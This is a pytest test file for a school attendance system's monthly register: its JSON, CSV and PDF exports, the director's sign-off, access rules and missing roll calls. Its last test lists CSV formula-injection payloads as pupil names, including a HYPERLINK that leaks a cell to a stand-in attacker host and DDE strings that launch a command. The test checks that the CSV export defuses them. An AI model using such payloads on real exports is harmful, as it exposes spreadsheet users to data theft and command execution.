"""The monthly register (JSON, CSV, PDF), its sign-off, and the calls not taken."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from preau.attendance.models import Absence, RegisterSignOff
from preau.attendance.services import absence_justify
from tests.attendance.helpers import MONDAY, TUESDAY, add_pupils, take_call
from tests.factories import EnrolmentFactory

pytestmark = pytest.mark.django_db


def register_url(classroom, suffix="/") -> str:
    return f"/api/v1/attendance/classrooms/{classroom.pk}/register{suffix}"


@pytest.fixture
def november(world):
    """A1 in November: Léa absent on Monday morning (justified), Tom late on Tuesday, Zoé
    arrived on Tuesday; Monday afternoon's call not taken."""
    classroom = world.classrooms["A1"]
    tom = add_pupils(classroom, 1)[0]
    zoé = EnrolmentFactory(classroom=classroom, start_date=TUESDAY).pupil
    take_call(world.user("teacher"), classroom, MONDAY, "morning", absent=[world.pupils["A1"]])
    take_call(world.user("teacher"), classroom, TUESDAY, "morning", late={tom: 12})
    absence_justify(actor=world.user("director"), absence=Absence.objects.get(kind="absent"),
                    reason="maladie_enfant")
    return {"léa": world.pupils["A1"], "tom": tom, "zoé": zoé}


def test_the_register_shows_pupils_by_half_days_with_totals(world, client_for, november):
    response = client_for("teacher").get(register_url(world.classrooms["A1"]),
                                         {"month": "2026-11"})

    assert response.status_code == 200, response.content
    register = response.json()
    half_days = [(h["date"], h["half_day"]) for h in register["half_days"]]
    assert half_days[0] == ("2026-11-02", "morning")
    assert ("2026-11-11", "morning") not in half_days  # a Wednesday and a bank holiday
    assert len(half_days) == 2 * 17  # 17 school days in November 2026 (4-day week)
    monday_morning = half_days.index(("2026-11-23", "morning"))
    tuesday_morning = half_days.index(("2026-11-24", "morning"))
    rows = {row["pupil"]["id"]: row for row in register["rows"]}
    léa, tom, zoé = (rows[november[name].pk] for name in ("léa", "tom", "zoé"))
    assert léa["cells"][monday_morning]["mark"] == "absent"
    assert léa["cells"][monday_morning]["justification_status"] == "accepted"
    assert léa["cells"][monday_morning + 1]["mark"] == "not_taken"
    assert léa["cells"][tuesday_morning]["mark"] == "present"
    assert (tom["cells"][tuesday_morning]["mark"],
            tom["cells"][tuesday_morning]["minutes_late"]) == ("late", 12)
    assert zoé["cells"][monday_morning]["mark"] == "not_enrolled"
    assert léa["totals"] == {"absent": 1, "absent_justified": 1, "absent_unjustified": 0,
                             "late": 0, "minutes_late": 0}
    assert tom["totals"]["late"] == 1
    assert tom["totals"]["minutes_late"] == 12
    assert register["sign_off"] is None


def test_the_register_as_csv_for_spreadsheets(world, client_for, november):
    response = client_for("director").get(register_url(world.classrooms["A1"], ".csv"),
                                          {"month": "2026-11"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeffNom;Prénom;Niveau;02/11 matin;02/11 après-midi;")
    lines = text.splitlines()
    header = lines[0].split(";")
    léa = next(line.split(";") for line in lines if line.startswith("Martin;Léa"))
    assert léa[header.index("23/11 matin")] == "AJ"
    assert léa[header.index("23/11 après-midi")] == "NF"
    assert léa[-5:] == ["1", "1", "0", "0", "0"]
    assert "Registre non signé" in text


def test_the_register_as_a_printable_pdf(world, client_for, november):
    response = client_for("director").get(register_url(world.classrooms["A1"], ".pdf"),
                                          {"month": "2026-11"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    assert len(response.content) > 1000


def test_the_pdf_survives_names_outside_latin_1(world, client_for):
    pupil = add_pupils(world.classrooms["A1"], 1)[0]
    pupil.first_name, pupil.last_name = "Łucja", "Nguyễn Œuvray"
    pupil.save()

    response = client_for("director").get(register_url(world.classrooms["A1"], ".pdf"))

    assert response.status_code == 200


def test_a_bad_month_is_refused_naming_it(world, client_for):
    response = client_for("teacher").get(register_url(world.classrooms["A1"]),
                                         {"month": "2026-13"})

    assert response.status_code == 400
    assert response.json()["error"]["fields"].keys() == {"month"}


def test_the_director_signs_a_finished_month_once(world, client_for):
    director = client_for("director")
    url = register_url(world.classrooms["A1"], "/sign-off/")

    signed = director.post(url, {"month": "2026-10"}, format="json")
    again = director.post(url, {"month": "2026-10"}, format="json")
    unfinished = director.post(url, {"month": "2026-11"}, format="json")
    register = director.get(register_url(world.classrooms["A1"]), {"month": "2026-10"}).json()

    assert (signed.status_code, again.status_code) == (201, 200)
    assert signed.json()["signed_by"]["id"] == world.user("director").person_id
    assert signed.json()["month"] == "2026-10"
    assert again.json()["signed_at"] == signed.json()["signed_at"]
    assert unfinished.status_code == 400
    assert unfinished.json()["error"]["fields"].keys() == {"month"}
    assert register["sign_off"]["signed_by"]["id"] == world.user("director").person_id
    assert RegisterSignOff.objects.count() == 1


def test_teachers_read_the_register_but_do_not_sign_it(world, client_for):
    teacher = client_for("teacher")

    assert teacher.get(register_url(world.classrooms["A1"])).status_code == 200
    assert teacher.post(register_url(world.classrooms["A1"], "/sign-off/"),
                        {"month": "2026-10"}, format="json").status_code == 403
    assert teacher.get(register_url(world.classrooms["A2"])).status_code == 404


def test_a_signed_month_no_longer_takes_corrections(world, client_for):
    call = take_call(world.user("director"), world.classrooms["A1"], date(2026, 10, 15))
    client_for("director").post(register_url(world.classrooms["A1"], "/sign-off/"),
                                {"month": "2026-10"}, format="json")

    response = client_for("director").put(
        f"/api/v1/attendance/roll-calls/{call.pk}/",
        {"absences": [{"pupil": world.pupils["A1"].pk, "absence_kind": "absent"}]},
        format="json", HTTP_IF_MATCH=call.etag)

    assert response.status_code == 400
    assert not Absence.objects.exists()


def not_taken_url(school) -> str:
    return f"/api/v1/attendance/schools/{school.pk}/calls-not-taken/"


def test_the_director_sees_the_classrooms_whose_call_is_not_taken(world, client_for):
    """Tuesday 24 November, 10:00: the week's due half-days are Monday's two and Tuesday
    morning; Tuesday afternoon is not due yet."""
    take_call(world.user("teacher"), world.classrooms["A1"], TUESDAY)
    director = client_for("director")

    week = director.get(not_taken_url(world.schools["A"])).json()
    wednesday = director.get(not_taken_url(world.schools["A"]), {"date": "2026-11-25"}).json()

    missing = {(h["date"], h["half_day"]): [c["id"] for c in h["classrooms"]]
               for h in week["half_days"]}
    a1, a2 = world.classrooms["A1"].pk, world.classrooms["A2"].pk
    assert (week["date"], week["week_start"]) == ("2026-11-24", "2026-11-23")
    assert missing == {("2026-11-23", "morning"): [a1, a2], ("2026-11-23", "afternoon"): [a1, a2],
                       ("2026-11-24", "morning"): [a2]}
    tuesday = week["half_days"][-1]
    assert tuesday["classrooms"][0]["teachers"][0]["id"] == world.user("teacher_other").person_id
    assert wednesday["half_days"] == week["half_days"]  # the same week, as far as it is due


def test_teachers_get_404_on_the_calls_not_taken(world, client_for):
    assert client_for("teacher").get(not_taken_url(world.schools["A"])).status_code == 404


@pytest.mark.parametrize("month", ["0000-01", "0999-12", "9999-12"])
def test_a_month_outside_the_calendar_is_a_400_naming_the_field(world, client_for, month):
    director = client_for("director")

    signed = director.post(register_url(world.classrooms["A1"], "/sign-off/"),
                           {"month": month}, format="json")
    register = director.get(register_url(world.classrooms["A1"]), {"month": month})

    assert (signed.status_code, register.status_code) == (400, 400)
    assert signed.json()["error"]["fields"].keys() == {"month"}
    assert register.json()["error"]["fields"].keys() == {"month"}
    assert RegisterSignOff.objects.count() == 0


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTab", "\rRetour"]


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_pupil_named_like_a_formula_reads_as_text_in_the_register_csv(world, client_for,
                                                                        name):
    pupil = add_pupils(world.classrooms["A1"], 1)[0]
    pupil.last_name, pupil.usage_name, pupil.first_name = name, "", name
    pupil.save()

    response = client_for("director").get(register_url(world.classrooms["A1"], ".csv"),
                                          {"month": "2026-11"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    row = next(row for row in rows if row[:2] == ["'" + name, "'" + name])
    # the codes of the register keep their meaning: "-" is "not enrolled", not text to defuse
    assert set(row[3:-5]) <= {"", "-", "NF"}
